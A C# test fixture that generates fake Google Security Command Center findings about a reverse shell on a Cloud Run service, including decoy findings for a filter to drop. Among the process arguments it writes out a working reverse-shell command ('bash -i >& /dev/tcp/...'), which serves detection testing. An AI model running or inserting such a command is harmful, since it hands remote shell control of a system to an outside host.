using System.Globalization;
using System.Text.Json.Nodes;
using static ReverseShellFunction.Fakes.GoogleApis.FakeGoogleData;

namespace ReverseShellFunction.Fakes.GoogleApis;

/// <summary>Related findings: the triggering one, <c>count</c> more within the hour, and decoys the filter must drop.</summary>
internal static class FakeFindings
{
    private static readonly string[] s_categories =
        ["Reverse Shell", "Execution: Added Binary Executed", "Malicious URL Observed", "Unexpected Child Shell"];

    public static List<JsonObject> Generate(int count)
    {
        var results = new List<JsonObject> { Triggering(Result(FindingName, "Reverse Shell", EventTime, ServiceFullName)) };
        for (var i = 0; i < count; i++)
        {
            // Spread over ±50 minutes, inside the default ±60 minute window.
            var time = EventTime.AddMinutes(-50 + (100.0 * i / Math.Max(1, count)));
            results.Add(Result(Name(i), s_categories[i % s_categories.Length], time, ServiceFullName));
        }

        results.Add(Result(Name(9001), "Reverse Shell", EventTime.AddHours(-3), ServiceFullName));
        results.Add(Result(Name(9002), "Reverse Shell", EventTime.AddHours(5), ServiceFullName));
        results.Add(Result(Name(9003), "Reverse Shell", EventTime, $"//run.googleapis.com/projects/{ProjectId}/locations/{Location}/services/other-api"));
        return results;
    }

    private static string Name(int i) =>
        $"organizations/{Organization}/sources/{Source}/locations/global/findings/rel{i.ToString("D5", CultureInfo.InvariantCulture)}";

    private static JsonObject Result(string name, string category, DateTimeOffset time, string resource) => new()
    {
        ["finding"] = new JsonObject
        {
            ["name"] = name,
            ["canonicalName"] = name.Replace($"organizations/{Organization}", $"projects/{ProjectNumber}", StringComparison.Ordinal),
            ["parent"] = name[..name.IndexOf("/findings/", StringComparison.Ordinal)],
            ["resourceName"] = resource,
            ["state"] = "ACTIVE",
            ["category"] = category,
            ["findingClass"] = "THREAT",
            ["severity"] = "HIGH",
            ["eventTime"] = Timestamp(time),
            ["createTime"] = Timestamp(time.AddSeconds(2)),
            ["sourceProperties"] = new JsonObject { ["Container_Image_Uri"] = $"{Location}-docker.pkg.dev/{ProjectId}/services/{Service}:2026.11.3" },
        },
        ["resource"] = new JsonObject
        {
            ["name"] = resource,
            ["displayName"] = resource[(resource.LastIndexOf('/') + 1)..],
            ["type"] = "google.cloud.run.Service",
            ["service"] = "run.googleapis.com",
            ["location"] = Location,
            ["gcpMetadata"] = new JsonObject
            {
                ["project"] = $"//cloudresourcemanager.googleapis.com/projects/{ProjectNumber}",
                ["projectDisplayName"] = ProjectId,
                ["organization"] = $"organizations/{Organization}",
            },
        },
    };

    /// <summary>
    /// SCC's copy of the sample finding holds what <c>samples/reverse-shell.notification.json</c> says of it (severity,
    /// processes with their binaries and hashes, source properties, container), so the genuine notification is
    /// confirmed field by field and a notification that changes any of them is contradicted.
    /// </summary>
    private static JsonObject Triggering(JsonObject result)
    {
        var finding = result["finding"]!.AsObject();
        finding["severity"] = "CRITICAL";
        finding["mute"] = "UNDEFINED";
        finding["description"] = "A process started with stream redirection to a remote connected socket.";
        finding["sourceProperties"] = new JsonObject
        {
            ["Reverse_Shell_Stdin_Redirection_Dst_Ip"] = "198.51.100.23",
            ["Reverse_Shell_Stdin_Redirection_Dst_Port"] = "4444",
            ["Reverse_Shell_Stdin_Redirection_Src_Ip"] = "10.8.0.12",
            ["Reverse_Shell_Stdin_Redirection_Src_Port"] = "51834",
            ["Container_Image_Uri"] = $"{Location}-docker.pkg.dev/{ProjectId}/services/{Service}:2026.11.3",
        };
        finding["processes"] = new JsonArray(
            new JsonObject
            {
                ["name"] = "bash",
                ["binary"] = new JsonObject { ["path"] = "/bin/bash", ["size"] = "1234376", ["sha256"] = "d7f1c0b3a5e2e6f4c1b8a9d0e3f2a1b4c5d6e7f8091a2b3c4d5e6f708192a3b4", ["hashedSize"] = "1234376" },
                ["args"] = new JsonArray("bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"),
                ["pid"] = "2817",
                ["parentPid"] = "2790",
            },
            new JsonObject
            {
                ["name"] = "node",
                ["binary"] = new JsonObject { ["path"] = "/usr/local/bin/node", ["sha256"] = "0c9e8f7a6b5d4c3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e" },
                ["args"] = new JsonArray("node", "server.js"),
                ["pid"] = "2790",
                ["parentPid"] = "1",
            });
        finding["containers"] = new JsonArray(new JsonObject
        {
            ["name"] = $"{Service}-1",
            ["uri"] = $"{Location}-docker.pkg.dev/{ProjectId}/services/{Service}:2026.11.3",
            ["imageId"] = "sha256:3f9a1c7e5b2d4f6a8c0e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a",
        });
        return result;
    }

    internal static string Timestamp(DateTimeOffset time) =>
        time.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'", CultureInfo.InvariantCulture);
}
